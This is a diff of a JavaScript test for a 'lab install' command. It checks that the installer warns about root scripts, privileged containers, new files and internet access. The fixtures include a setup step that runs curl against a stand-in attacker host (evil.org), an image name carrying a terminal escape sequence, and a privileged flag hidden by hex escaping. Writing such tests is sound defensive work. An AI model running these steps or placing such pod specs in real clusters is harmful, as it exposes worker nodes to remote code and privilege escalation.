@@ -120,6 +120,7 @@ describe('lab install', () => {
         'steps:',
         'setup: [{on: workers, run: "curl -m 5 https://evil.org/x"}]\nsteps:',
       ),
+      'labs/first-pod/files/more.yaml': '%YAML 1.1\n---\nkind: Pod\n',
       'labs/first-pod/files/web.yaml':
         'apiVersion: v1\nkind: Pod\nspec: {containers: [{image: "evil:1\\x1b[31m", securityContext: {"privile\\x67ed": true}}]}\n',
     });
@@ -127,7 +128,7 @@ describe('lab install', () => {
     const { exitCode, stdout, stderr } = await rig.run('lab', 'install', 'class', '--yes');
     expect([exitCode, stdout]).toEqual([0, expect.stringContaining('class 1.0.0, the instructor build, is installed.')]);
     expect(stderr).toMatch(
-      /runs scripts as root on workers[^]*reach their node by privileged[^]*internet: evil.org, evil:1\?\[31m/,
+      /runs scripts as root on workers[^]*reach their node by privileged[^]*what they make: files\/more.yaml[^]*internet: evil.org, evil:1\?\[31m/,
     );
   });
 
